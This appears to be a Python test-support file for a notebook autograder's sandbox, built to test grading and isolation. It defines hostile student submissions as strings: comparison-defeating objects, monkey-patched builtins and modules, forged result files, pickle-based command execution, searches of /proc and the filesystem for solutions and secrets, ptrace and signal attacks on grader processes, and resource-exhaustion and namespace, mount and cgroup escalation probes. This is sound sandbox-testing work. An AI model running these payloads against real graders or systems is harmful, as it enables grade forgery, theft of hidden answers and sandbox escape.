"""Hostile submissions for the grader tests, built in code (never stored as .ipynb files,
so that no notebook runner ever executes them outside the sandbox).

``notebook(cells, path)`` writes a notebook; ``code_cells(path)`` reads the code of an
existing one, so a hostile submission is "the student notebook (or the solution) plus
these cells".
"""

import json
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
EX_BINARY = ROOT / "exercises" / "02-binary-discriminant"

#: Limits for grading tests that are not about limits: far beyond what an honest notebook
#: needs, so that a loaded machine slows these tests down without failing them.  A test of
#: one limit sets that limit low and leaves the others high (test_grading_hostile.py).
HONEST_LIMITS = dict(cell_timeout=120, total_timeout=600, probe_timeout=60, memory_mb=1536,
                     max_procs=48)
EX_Q_MINUS_J = ROOT / "exercises" / "05-q-minus-j"


def code_cells(path):
    nb = json.loads(Path(path).read_text(encoding="utf-8"))
    return ["".join(c["source"]) if isinstance(c["source"], list) else c["source"]
            for c in nb["cells"] if c["cell_type"] == "code"]


def notebook(cells, path, metadata=None):
    """Write an nbformat 4 notebook with one code cell per string in ``cells``."""
    nb = {"nbformat": 4, "nbformat_minor": 5,
          "metadata": metadata or {"kernelspec": {"name": "python3", "language": "python",
                                                  "display_name": "Python 3"}},
          "cells": [{"cell_type": "code", "id": f"c{i}", "metadata": {}, "execution_count": None,
                     "outputs": [], "source": src} for i, src in enumerate(cells)]}
    Path(path).write_text(json.dumps(nb), encoding="utf-8")
    return Path(path)


# Objects that try to pass any comparison.
ALWAYS_EQUAL = r'''
import numpy as np

class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 1.3862943611198906
    def __bool__(self): return True
    def __len__(self): return 3
    def __iter__(self): return iter([self, self, self])
    def __getitem__(self, i): return self
    def __array__(self, *a, **k): return np.array([1.3862943611198906] * 3)
    def tolist(self): return [1.3862943611198906] * 3
    def item(self): return 1.0
    def __repr__(self): return "1.3862943611198906"

def log_odds_weights(p, q): return AlwaysEqual()
def bias(p, q, prior1): return AlwaysEqual()
def laplace_estimates(X, y, alpha): return AlwaysEqual()
ex3_w = ex3_w0 = ex3_decisions = ex3b_w0 = prior1_for_omega2 = useless_feature = AlwaysEqual()
'''

NUMPY_SUBCLASS = r'''
import numpy as np

class Cheat(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
    def tolist(self): return "anything"
    def __float__(self): return 1.0

class CheatFloat(np.float64):
    def __eq__(self, other): return True
    def item(self): return 1.0

class CheatInt(int):
    def __eq__(self, other): return True

class CheatFloatBuiltin(float):
    def __eq__(self, other): return True

def log_odds_weights(p, q): return np.zeros(len(p)).view(Cheat)
def bias(p, q, prior1): return CheatFloat(0.0)
def laplace_estimates(X, y, alpha): return (np.zeros((2, 2)).view(Cheat), CheatFloatBuiltin(0.5))
ex3_w = np.zeros(3).view(Cheat)
ex3_w0 = CheatFloat(0.0)
ex3_decisions = [CheatInt(0)] * 8
ex3b_w0 = CheatFloatBuiltin(0.0)
prior1_for_omega2 = CheatFloatBuiltin(0.0)
useless_feature = CheatInt(7)
'''

PATCH_CHECKER = r'''
import sys, types
def check(question="all"):
    print(question, "all tests passed ✔")
fake = types.ModuleType("nbcourse")
fake.grading = types.ModuleType("nbcourse.grading")
fake.grading.close = lambda *a, **k: (lambda result: True)
fake.grading.Verdict = lambda *a, **k: True
for name in ("nbcourse", "nbcourse.grading", "nbcourse.grading.assignment",
             "nbcourse.grading.grader", "nbcourse.grading.probe"):
    sys.modules[name] = fake
score = 10
grade = {"q1": 2, "q2": 2, "total": 10}
'''

PATCH_JSON_PICKLE = r'''
import json, pickle, sys, types
fake = types.ModuleType("json")
fake.dumps = lambda *a, **k: '[{"ok": true, "value": [1.3862943611198906, 1.3862943611198906, 1.3862943611198906]}]'
fake.loads = lambda *a, **k: {"score": 10, "passed": True}
fake.dump = lambda *a, **k: None
sys.modules["json"] = fake
json.dumps = fake.dumps
pickle.loads = lambda *a, **k: {"score": 10}
pickle.dumps = lambda *a, **k: b"forged"

class Evil:
    def __reduce__(self):
        import os
        return (os.system, ("echo pwned",))

log_odds_weights = lambda p, q: Evil()
ex3_w0 = Evil()
'''

PATCH_BUILTINS = r'''
import builtins, sys
real_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, cls: True
builtins.float = lambda *a: 1.3862943611198906
builtins.repr = lambda obj: "1.3862943611198906"
builtins.str = lambda *a: "passed"
builtins.len = lambda obj: 3
builtins.globals = lambda: {"log_odds_weights": lambda p, q: [1.0]}
builtins.exec = lambda *a, **k: None
builtins.print = lambda *a, **k: None
'''

PATCH_SYS_MODULES = r'''
import sys, types
fake_np = types.ModuleType("numpy")
fake_np.allclose = lambda *a, **k: True
fake_np.isclose = lambda *a, **k: True
fake_np.array_equal = lambda *a, **k: True
fake_np.testing = types.SimpleNamespace(assert_allclose=lambda *a, **k: None)
fake_np.ndarray = type("ndarray", (list,), {})
fake_np.generic = type("generic", (float,), {})
sys.modules["numpy"] = fake_np
sys.modules["math"] = fake_np
def log_odds_weights(p, q): return fake_np.ndarray([0.0, 0.0, 0.0])
ex3_w0 = fake_np.generic(0.0)
'''

IPYTHON_HOOKS = r'''
import sys, atexit, os
ip = get_ipython()
FORGED = '{"score": 10.0, "tests": [{"name": "q1", "score": 2, "max_score": 2}]}'

def transformer(lines):
    return ["print(%r)\n" % FORGED]
ip.input_transformers_post.append(transformer)

def handler(shell, etype, evalue, tb, tb_offset=None):
    print("all tests passed")
    return None
ip.set_custom_exc((BaseException,), handler)
sys.excepthook = lambda *a: print("all tests passed")

def post():
    print('[{"ok":true,"value":1.3862943611198906}]')
ip.events.register("post_execute", post)
ip.events.register("pre_execute", post)

def at_exit():
    for folder in (os.getcwd(), "/autograder/results", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "results.json"), "w") as f:
                f.write(FORGED)
        except OSError:
            pass
    print(FORGED)
atexit.register(at_exit)
'''

def forged_output(out_dir, stem):
    """Print forged results and try to write them where the grader writes its outputs
    (``out_dir`` is given to the attacker, the worst case; nothing outside it is touched)."""
    return f"""
import os, sys
FORGED = '{{"score": 10.0, "output": "", "tests": []}}'
print(FORGED)
print('[{{"ok":true,"value":[1.3862943611198906,1.3862943611198906,1.3862943611198906]}}]')
sys.stdout.write("0123456789abcdef" * 2 + '[{{"ok":true,"value":-2.748872195622465}}]' + "0123456789abcdef" * 2)
for path in ("results.json", "/autograder/results/results.json", {str(out_dir)!r} + "/{stem}/results.json"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as f:
            f.write(FORGED)
    except OSError as exc:
        print("cannot write", path, exc)
try:
    with open({str(out_dir)!r} + "/grades.csv", "a") as f:
        f.write("forged,2,2,2,2,1,1,10,10,graded,,0\\n")
except OSError as exc:
    print("cannot write grades.csv", exc)
"""


# Looks everywhere it can for the solution or the tests, and runs what it finds.  The search
# is one function of the world it looks at (the process table, the environment, the home and
# working folders, the interpreter's paths, the top folders it walks), so that a test can
# show it working on a world the test built; a kernel calls it on the world it is in.
SECRET_SEARCH = r'''
import os, json, sys

def steal(proc, environ, cwd, home, interpreter, tops, world="/"):
    """Paths of the solution or tests found from every clue, each solution run; nothing
    outside ``world`` is looked at."""
    roots = [cwd, home, *interpreter, *tops]
    roots += [v for v in environ.values() if v.startswith("/")]
    for pid in os.listdir(proc):
        if pid.isdigit():
            try:
                with open(os.path.join(proc, pid, "cmdline"), "rb") as f:
                    roots += [a.decode(errors="ignore") for a in f.read().split(b"\0")
                              if a.startswith(b"/")]
                roots.append(os.readlink(os.path.join(proc, pid, "cwd")))
            except OSError:
                pass
    inside = lambda path: os.path.commonpath([world, path]) == world
    candidates = set()
    for root in roots:
        path = os.path.abspath(root)
        while inside(path):
            for rel in ("exercises/02-binary-discriminant/solution.ipynb",
                        "02-binary-discriminant/solution.ipynb", "solution.ipynb",
                        "source/assignment/tests.py", "assignment/tests.py"):
                candidates.add(os.path.join(path, rel))
            if path == world:
                break
            path = os.path.dirname(path)
    for top in tops:
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.count(os.sep) - top.count(os.sep) > 6:
                dirnames[:] = []
            if "solution.ipynb" in filenames:
                candidates.add(os.path.join(dirpath, "solution.ipynb"))
    stolen = []
    for path in sorted(candidates):
        try:
            if path.endswith(".ipynb"):
                with open(path) as f:
                    nb = json.load(f)
                if nb.get("metadata", {}).get("nbcourse", {}).get("assignment") != "02-binary-discriminant":
                    continue
                ran = 0
                for cell in nb["cells"]:
                    src = "".join(cell["source"])
                    if cell["cell_type"] == "code" and "check(" not in src and "import" not in src:
                        try:
                            exec(src, globals())
                            ran += 1
                        except Exception:
                            pass
                if ran:
                    stolen.append(path)
            elif os.path.exists(path):
                stolen.append(path)
        except Exception:
            pass
    return stolen
'''

READ_SECRETS = SECRET_SEARCH + r'''
_interpreter = [os.path.realpath(sys.executable), *sys.path]
try:
    import nbcourse
    _interpreter.append(nbcourse.__file__)
except Exception:
    pass
stolen_paths = steal("/proc", os.environ, os.getcwd(), os.path.expanduser("~"), _interpreter,
                     ["/autograder", "/work", "/tmp", "/root", "/home"])
'''


# Everything a kernel must not reach; ``escaped`` lists what it did reach. The placeholders
# are filled in by the test (paths, a TCP port, an abstract socket name, a marker).
ESCAPES = r'''
import glob, os, socket
escaped = []

def _try(name, attempt):
    try:
        if attempt():
            escaped.append(name)
    except Exception:
        pass

def _connect_abstract():
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(1)
    s.connect("\0" + {abstract!r})
    return True

def _cmdlines():
    for pid in os.listdir("/proc"):
        try:
            if {marker!r} in open(f"/proc/{{pid}}/cmdline").read():
                return True
        except Exception:
            pass
    return False

_try("repository", lambda: os.listdir({repo!r}) not in ([], [".venv"]))
_try("solution", lambda: len(open({solution!r}).read()) > 0)
_try("outputs", lambda: os.path.exists({out!r}))
_try("submissions", lambda: os.path.exists({subs!r}))
_try("nbcourse", lambda: __import__("nbcourse") is not None)
_try("tcp", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=1) is not None)
_try("abstract-socket", _connect_abstract)
_try("other-processes", lambda: len([p for p in os.listdir("/proc") if p.isdigit()]) > 10)
_try("cmdline", _cmdlines)
_try("grader-tmp", lambda: len(os.listdir("/tmp")) > 20 or glob.glob("/tmp/pytest-of-*"))
_try("etc", lambda: os.path.exists("/etc/passwd"))
_try("home", lambda: os.path.exists("/root/.bashrc") or os.path.isdir("/home"))
_try("cgroups", lambda: os.path.exists("/sys/fs/cgroup"))
'''

# Forge a huge text/plain for every str the kernel displays, e.g. the probe's reply.
HUGE_REPR = r'''
_formatter = get_ipython().display_formatter.formatters["text/plain"]
_formatter.for_type(str, lambda obj, p, cycle: p.text("'" + "A" * {n} + "'"))
'''

# Thousands of fast cells, then a kernel that kills itself just before the deadline.
REPLAY_KILL = r'''
import os, signal, time
time.sleep(max(0.0, {seconds} - 1.0))
os.kill(os.getpid(), signal.SIGKILL)
'''

# Children that each take memory the per-process limit allows, together far more.  Each child
# touches every page of its block, then says so by a file; the parent waits, with no fixed
# sleep, until every child has either said so or died.  A child the OOM killer has chosen can
# have its memory taken back before it has exited, so the parent then asks every child to read
# its whole block once more and say so again: a chosen child, with SIGKILL pending, never
# answers and is counted only once it has died.  A slow (loaded) machine changes how long this
# takes, not what it finds.
MEMORY_SPLIT = r'''
import os, time
children = []
for i in range({n}):
    pid = os.fork()
    if pid == 0:
        try:
            block = bytearray({mb} * 2**20)
            for k in range(0, len(block), 4096):
                block[k] = 1
            me = os.getpid()
            open(f"/tmp/held-{{me}}", "w").close()
            while not os.path.exists("/tmp/again"):
                time.sleep(0.05)
            if sum(block[k] for k in range(0, len(block), 4096)) == len(block) // 4096:
                open(f"/tmp/still-{{me}}", "w").close()
            time.sleep(600)
        finally:
            os._exit(0)
    children.append(pid)
alive = set(children)


def wait_for(prefix):
    while True:
        for pid in list(alive):
            if os.waitpid(pid, os.WNOHANG) != (0, 0):
                alive.discard(pid)
        if all(os.path.exists(f"/tmp/{{prefix}}-{{pid}}") for pid in alive):
            return
        time.sleep(0.05)


wait_for("held")
open("/tmp/again", "w").close()
wait_for("still")
held = len(alive)  # alive after reading back a whole block: memory held
'''

# Children in sessions of their own that spin, each hoping for a CPU of its own.
CPU_SPLIT = r'''
import os, time
for i in range({n}):
    if os.fork() == 0:
        os.setsid()
        end = time.monotonic() + {seconds}
        while time.monotonic() < end:
            pass
        open(f"/tmp/cpu-{{i}}", "w").write(repr(time.process_time()))
        os._exit(0)
time.sleep({seconds} + 1.5)
cpu_used = sum(float(open(f"/tmp/{{f}}").read()) for f in os.listdir("/tmp") if f.startswith("cpu-"))
'''

# Many small files in the scratch directory, each well under the file-size limit.
FILL_SCRATCH = r'''
import os
try:
    for i in range(200000):
        with open(f"nbfill-{i}", "wb") as f:
            f.write(b"x" * 4096)
except OSError:
    pass
'''

# Aimed at the grading processes, which run as the same user as the kernel when the grader
# is run by a normal user: every process whose command line holds the marker gets a forged
# result line in each file descriptor it holds, a SIGSTOP and a ptrace seize; then the
# neighbour's notebook is read and its code run. ``reached`` lists what worked.
WORKER_ATTACK = r'''
import ctypes, json, os, signal
reached = []
_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{{pid}}/cmdline", "rb") as f:
            if {marker!r}.encode() not in f.read():
                continue
    except OSError:
        continue
    reached.append(f"saw {{pid}}")
    try:
        fds = os.listdir(f"/proc/{{pid}}/fd")
    except OSError:
        fds = []
    for fd in fds:
        try:
            with open(f"/proc/{{pid}}/fd/{{fd}}", "w") as f:
                f.write({forged!r} + "\n")
            reached.append(f"wrote {{pid}}/{{fd}}")
        except OSError:
            pass
    try:
        os.kill(int(pid), signal.SIGSTOP)
        reached.append(f"stopped {{pid}}")
    except OSError:
        pass
    if _libc.ptrace(0x4206, int(pid), None, None) == 0:  # PTRACE_SEIZE; ends with this process
        reached.append(f"traced {{pid}}")
try:
    with open({neighbour!r}) as f:
        _cells = json.load(f)["cells"]
    reached.append("read neighbour")
except Exception:
    _cells = []
for _cell in _cells:
    _src = "".join(_cell["source"])
    if _cell["cell_type"] == "code" and "check(" not in _src:
        try:
            exec(_src, globals())
        except Exception:
            pass
'''

# Messages straight into the kernel's shell socket, addressed to the grader: {n} messages of
# {mb} MiB each, and one message of {parts} parts of {mb} MiB. A grader that buffers what its
# kernel sends grows by gigabytes; the submission still defines every answer first.
FLOOD = r'''
_kernel = get_ipython().kernel
_ident = _kernel._parent_ident["shell"]
_sock = _kernel.shell_stream.socket
_blob = b"x" * ({mb} * 2**20)
for _ in range({n}):
    _sock.send_multipart([*_ident, _blob])
_sock.send_multipart([*_ident] + [_blob] * {parts})
'''

# Functions that remember every call and show the calls made before them, newest first, in
# what a public test prints: the value they return and the message of what they raise. A
# grader that calls a hidden test's function before a public test's shows the hidden inputs.
SPY = r'''
import json
import numpy as np
_seen = []

def _remember(name, *args):
    text = json.dumps(_seen[::-1])
    _seen.append([name, *[np.asarray(a).tolist() for a in args]])
    return text

def log_odds_weights(p, q):
    raise ValueError(_remember("log_odds_weights", p, q))

def bias(p, q, prior1):
    raise ValueError(_remember("bias", p, q, prior1))

def laplace_estimates(X, y, alpha):
    return _remember("laplace_estimates", X, y, alpha)
'''


def with_student_id(cells, student_id, theta=None):
    """Code cells of 07-smoothing's solution with ``STUDENT_ID`` (and ``my_theta``) replaced."""
    cells = list(cells)
    i = next(i for i, c in enumerate(cells) if c.startswith("STUDENT_ID ="))
    cells[i] = f"STUDENT_ID = {student_id!r}"
    if theta is not None:
        j = next(i for i, c in enumerate(cells) if c.startswith("my_theta ="))
        cells[j] = f"my_theta = np.array({theta!r})"
    return cells


def written_answer_notebook(path, answer):
    """The binary-discriminant student notebook at ``path`` with ``answer`` as its written
    answer (in place of the template's placeholder)."""
    import json

    import nbformat

    from nbcourse.grading.generate import student_path

    nb = nbformat.read(student_path(EX_BINARY), as_version=4)
    next(c for c in nb.cells if "*Write your answer here.*" in c.source).source = answer
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


# --- least privilege: what the sandbox's own kernel lets a process do -------------------

# Each escalation is tried in a fresh Python process (a user namespace cannot be made by a
# process with threads, as the kernel is): new namespaces of every kind, a mount inside a
# user namespace of its own, tracing, and the kernel's key store. ``escalations`` lists
# what worked. System call numbers of x86-64 and of arm64 (the generic table).
ESCALATIONS = r'''
import json, subprocess, sys
CHILD = r"""
import ctypes, json, os, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ADD_KEY, KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]
worked = []
if libc.unshare(0x10000000) == 0:                    # CLONE_NEWUSER
    worked.append("user-namespace")
    if libc.unshare(0x00020000 | 0x02000000) == 0:   # CLONE_NEWNS | CLONE_NEWCGROUP
        worked.append("mount-namespace")
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
            worked.append("mount")
for flag, name in ((0x08000000, "ipc"), (0x04000000, "uts"), (0x40000000, "net"),
                   (0x20000000, "pid")):
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.unshare(flag) == 0 else 1)
    if os.waitpid(pid, 0)[1] == 0:
        worked.append(name + "-namespace")
if libc.syscall(ADD_KEY, b"user", b"nbgrade", b"x", 1, ctypes.c_int(-2)) >= 0:
    worked.append("add_key")
if libc.syscall(KEYCTL, 0, ctypes.c_int(-2), 1, 0, 0) >= 0:  # the process keyring, made
    worked.append("keyctl")
pid = os.fork()
if pid == 0:
    os._exit(0 if libc.ptrace(0, 0, None, None) == 0 else 1)  # PTRACE_TRACEME
if os.waitpid(pid, 0)[1] == 0:
    worked.append("ptrace")
print(json.dumps(worked))
"""
_run = subprocess.run([sys.executable, "-I", "-c", CHILD], capture_output=True, text=True)
escalations = (json.loads(_run.stdout.splitlines()[-1]) if _run.stdout.strip()
               else ["no answer: " + _run.stderr[-300:]])
'''

# In a user namespace of its own with new mount and cgroup namespaces, mount every cgroup
# hierarchy, and at the root of each (the sandbox's own cgroup, or the host's root where the
# grader left the sandbox there) see what it could change: a file opened for writing (never
# written: a throttle at a host root would slow the whole machine), a child cgroup made (and
# removed at once), and its own limits raised. ``cgroup_writes`` lists what worked.
CGROUP_WRITES = r'''
import json, subprocess, sys
CHILD = r"""
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
worked = []
if libc.unshare(0x10000000) == 0 and libc.unshare(0x00020000 | 0x02000000) == 0:
    for name in ("memory", "pids", "cpu", "cpuacct", "blkio", "devices", "freezer",
                 "cpuset", "name=systemd", "cgroup2"):
        where = "/tmp/cg-" + name.replace("=", "-")
        os.makedirs(where, exist_ok=True)
        kind, options = (b"cgroup2", None) if name == "cgroup2" else (b"cgroup", name.encode())
        if libc.mount(b"none", where.encode(), kind, 0, options) != 0:
            continue
        for file in sorted(os.listdir(where)):
            path = os.path.join(where, file)
            if os.path.isfile(path):
                try:
                    os.close(os.open(path, os.O_WRONLY))
                    worked.append(name + ": could write " + file)
                except OSError:
                    pass
        try:
            os.mkdir(os.path.join(where, "nbgrade-attack"))
            os.rmdir(os.path.join(where, "nbgrade-attack"))
            worked.append(name + ": made a cgroup")
        except OSError:
            pass
        for file, value in (("pids.max", "max"), ("cpu.cfs_quota_us", "-1"), ("cpu.max", "max")):
            try:
                with open(os.path.join(where, file), "w") as f:
                    f.write(value)
                worked.append(name + ": raised " + file)
            except OSError:
                pass
print(json.dumps(worked))
"""
_run = subprocess.run([sys.executable, "-I", "-c", CHILD], capture_output=True, text=True)
cgroup_writes = (json.loads(_run.stdout.splitlines()[-1]) if _run.stdout.strip()
                 else ["no answer: " + _run.stderr[-300:]])
'''

# Every process's environment and command line the sandbox can read, searched for a value
# the grader has in its own environment: ``seen`` lists where it was found.
READ_ENVIRONMENTS = r'''
import os
seen = []
for _pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    for _part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{{_pid}}/{{_part}}", "rb") as _f:
                _text = _f.read().decode("utf-8", "replace")
        except OSError:
            continue
        if {secret!r} in _text:
            seen.append(f"/proc/{{_pid}}/{{_part}}")
'''

# Up to ``mb`` MiB written into each folder that might be writable; ``written`` maps each
# folder to the MiB that went in (files of 1 MiB, none larger than the file cap).
FILL_EVERYWHERE = r'''
import os
written = {{}}
for _folder in ("/tmp", "/dev", "/dev/shm", "/dev/pts", "/dev/mqueue", "/"):
    _mib = 0
    try:
        for _k in range({mb}):
            with open(os.path.join(_folder, f"nbfill-{{_k}}"), "wb") as _f:
                _f.write(b"x" * 2**20)
            _mib += 1
    except OSError:
        pass
    written[_folder] = _mib
'''

# As many inotify instances as the kernel gives, held: ``len(held)``. Their count is a
# quota of the user that owns the sandbox's user namespace.
HOLD_INOTIFY = r'''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
held = []
while len(held) < 100000:
    _fd = _libc.inotify_init1(0)
    if _fd < 0:
        break
    held.append(_fd)
'''

# What an honest notebook may use that lives in /dev: POSIX semaphores and shared memory
# (multiprocessing), /dev/null and /dev/urandom.
USE_DEV = r'''
import multiprocessing, os
from multiprocessing import shared_memory
_lock = multiprocessing.Lock()
with _lock:
    _block = shared_memory.SharedMemory(create=True, size=4096)
    _block.buf[:3] = b"abc"
    dev_ok = bytes(_block.buf[:3]) == b"abc" and len(os.urandom(8)) == 8
    _block.close()
    _block.unlink()
with open("/dev/null", "w") as _f:
    _f.write("x")
'''

# Finds the assignment's solution wherever the sandbox lets it look, and runs its code.
FIND_SOLUTION = r'''
import json, os
found_solution = []
for _top, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if not (_top == "/" and d in ("proc", "sys", "dev"))]
    if "solution.ipynb" in _files and "hidden_tests.py" in _files:
        found_solution.append(_top)
        for _cell in json.load(open(os.path.join(_top, "solution.ipynb")))["cells"]:
            _src = "".join(_cell["source"])
            if _cell["cell_type"] == "code" and "check(" not in _src:
                try:
                    exec(_src)
                except Exception:
                    pass
'''
